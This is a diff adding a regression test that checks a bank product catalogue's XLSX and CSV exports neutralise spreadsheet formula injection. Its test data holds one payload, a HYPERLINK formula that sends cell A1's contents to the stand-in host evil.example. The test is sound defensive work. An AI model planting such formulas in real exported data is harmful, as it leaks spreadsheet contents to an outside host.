@@ -155,3 +155,29 @@ def test_the_bank_imports_from_its_page_and_sees_each_bad_row(app, world):
     assert nothing.status_code == 422 and 'id="file-error"' in nothing.text
     template = browser.get("/bank/products/import-template.xlsx")
     assert template.status_code == 200 and template.mimetype.endswith("spreadsheetml.sheet")
+
+
+def test_a_product_named_like_a_formula_exports_as_inert_text(as_role, browser_of, world):
+    """Issue 21: a bank names its product as an Excel formula; the catalogue's XLSX holds it as a string cell, and the
+    CSV starts it with an apostrophe, in the API's export and on the catalogue pages of enterprises and the admin."""
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    bank = as_role("bank")
+    made = bank.post("/api/v1/products", json={
+        "name": name, "product_type": "credit", "amount_min": "500000.00", "amount_max": "5000000.00",
+        "term_min_months": 6, "term_max_months": 36, "rate_spread_bp": 25, "eligible_tiers": ["srdi"],
+        "guarantee": "none"})
+    assert made.status_code == 201, made.json
+    assert bank.post(f"/api/v1/products/{made.json['id']}/publish").status_code == 200
+    column = EXPORT_COLUMNS.index("name")
+    for client, path in ((as_role("enterprise"), "/api/v1/products/export?format=xlsx"),
+                         (browser_of(world.enterprise_user), "/products/export.xlsx"),
+                         (browser_of(world.admin_user), "/products/export.xlsx")):
+        response = client.get(path)
+        assert response.status_code == 200, path
+        sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
+        (cell,) = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value == name]
+        assert cell.data_type == "s", path  # text, never a formula
+    for client, path in ((as_role("enterprise"), "/api/v1/products/export?format=csv"),
+                         (browser_of(world.enterprise_user), "/products/export.csv")):
+        _header, *rows = csv.reader(io.StringIO(client.get(path).data.decode("utf-8-sig")))
+        assert "'" + name in [row[column] for row in rows], path
